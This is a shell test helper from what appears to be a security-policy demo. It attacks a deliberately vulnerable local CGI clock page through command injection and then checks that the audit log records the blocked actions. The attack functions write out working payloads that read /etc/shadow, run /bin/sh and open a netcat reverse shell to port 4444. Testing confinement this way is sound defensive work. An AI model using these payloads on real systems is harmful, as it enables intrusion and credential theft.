# SPDX-License-Identifier: GPL-2.0-only
# shellcheck shell=dash
# The web site of the demo: using it, and attacking it.
# shellcheck source=stage.sh
. /usr/share/demo/stage.sh

site=http://127.0.0.1
page="$site/cgi-bin/clock?server=127.0.0.1+13"

# in_time COMMAND..: waits for it to succeed, but not for ever.
in_time()
{
    local tries=300
    until "$@" 2>/dev/null; do
        tries=$((tries - 1))
        [ $tries -gt 0 ] || return 1
        sleep 0.1
    done
}

site_is_up()
{
    # A restarted server needs a moment.
    in_time wget -q -O /dev/null $site/
}

visit()
{
    run "wget -q -O - '$page'"
}

# wget fails when the server does not answer 200.
site_works()
{
    [ "$status" = 0 ] && shows "UTC $(date +%Y)"
}

# Three attacks through the hole in the page. The listener stands for the attacker's machine.
attack_read()
{
    run "wget -q -O - '$page;read+x</etc/shadow;echo+\$x'"
}

attack_shell()
{
    run "wget -q -O - '$page;/bin/sh+-c+id'"
}

# attackers_port STATE..: the attacker's port, 4444, is in one of these states, as the kernel numbers them.
attackers_port()
{
    cat /proc/net/tcp /proc/net/tcp6 2>/dev/null | grep -qE "^ *[0-9]+: [0-9A-F]+:115C [0-9A-F:]+ ($1) "
}

attack_reverse()
{
    echo id | timeout 60 nc -l -p 4444 >/tmp/caught 2>&1 &
    in_time attackers_port 0A
    run "wget -q -O - '$page;/usr/bin/nc+127.0.0.1+4444+-e+/bin/sh'"
    # With a connection (established, or closed by one side) the listener ends by itself; without one it would wait on.
    attackers_port '01|04|05|08|09' || kill $! 2>/dev/null
    wait $!
    run 'cat /tmp/caught'
    rm -f /tmp/caught
}

# The lines that are missing in the policy, says the audit log, one for each attack.
three_denials()
{
    [ "$shown" = "$(printf '%s\n' 'file read /etc/shadow' 'file execute /bin/sh' \
        'network inet stream connect 127.0.0.1 4444')" ]
}

# Nothing in what was shown comes from the attacks.
innocent()
{
    hides shadow && hides /bin/sh && hides 4444
}
